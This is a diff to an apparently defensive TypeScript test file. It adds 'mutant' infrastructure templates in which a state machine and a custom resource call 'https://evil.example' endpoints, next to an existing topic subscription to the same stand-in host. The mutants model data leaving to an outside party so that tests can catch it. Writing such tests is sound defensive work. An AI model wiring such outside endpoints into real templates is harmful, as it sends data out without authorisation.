@@ -36,5 +36,15 @@ export const SUBSCRIBED_INSIDE: readonly Mutant[] = mutantsOf('telemetry-goes-wh
     'a topic tells somebody whom it subscribes itself',
     change(TOPIC, { Subscription: [{ Protocol: 'https', Endpoint: 'https://evil.example/alarms' }] }),
   ],
+  'machine-calls-somebody': [
+    'a machine calls somebody outside',
+    change(at.EXPORT_MACHINE, {
+      DefinitionString: JSON.stringify({ States: { A: { Parameters: { ApiEndpoint: 'https://evil.example/take' } } } }),
+    }),
+  ],
+  'custom-resource-calls-somebody': [
+    'a custom resource is told to call somebody outside',
+    change({ type: 'Custom::EbsEncryption', stack: at.WATCH }, { CallbackUrl: 'https://evil.example/done' }),
+  ],
   'subscribed-inside-unreadably': ['a topic tells whom nobody can read', change(TOPIC, { Subscription: [{ Ref: 'Somebody' }] })],
 });
